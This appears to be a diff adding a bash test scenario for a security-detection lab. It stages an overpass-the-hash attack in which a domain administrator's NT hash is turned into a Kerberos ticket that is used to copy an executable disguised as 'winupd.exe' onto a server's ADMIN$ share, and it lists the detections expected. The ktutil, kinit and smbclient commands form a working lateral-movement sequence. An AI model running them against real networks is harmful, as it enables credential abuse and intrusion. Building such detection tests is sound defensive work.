@@ -1,0 +1,27 @@
+# shellcheck shell=bash disable=SC2034,SC2154  # settings are read, and variables set, by record and lab
+title='A ticket got with a hash alone, and used'
+about="A domain administrator's NT hash, put into a keytab as an RC4 key, gets a ticket (overpass-the-hash), and that opens ADMIN\$ of a
+member server: the one logon whose account key is not the password's AES key leads to the access."
+server=mem1
+filter=$domain_filter
+by='hash'
+expect='
+incident admin-share-copy high unverified
+account LAB.TEST\dave
+technique T1021.002 T1550.002 T1570
+step auth.rc4 smb.tree.admin file.write.exe
+never svcctl.*
+access unverified
+file write winupd.exe pe32
+'
+
+run() {
+  typed_lines="addent -key -p $admin@$realm -k 1 -e rc4-hmac
+${nt_hash[$admin]}
+wkt $admin.keytab" client ktutil
+  client kinit -k -t "$admin.keytab" "$admin@$realm"
+  client smbclient "//$server_name/ADMIN\$" --use-krb5-ccache=ticket -c 'put setup.exe winupd.exe'
+  connected 'IPC$' 'ADMIN$'
+  wrote 'ADMIN$' winupd.exe setup.exe
+  same_on_disk 'ADMIN$' winupd.exe setup.exe
+}
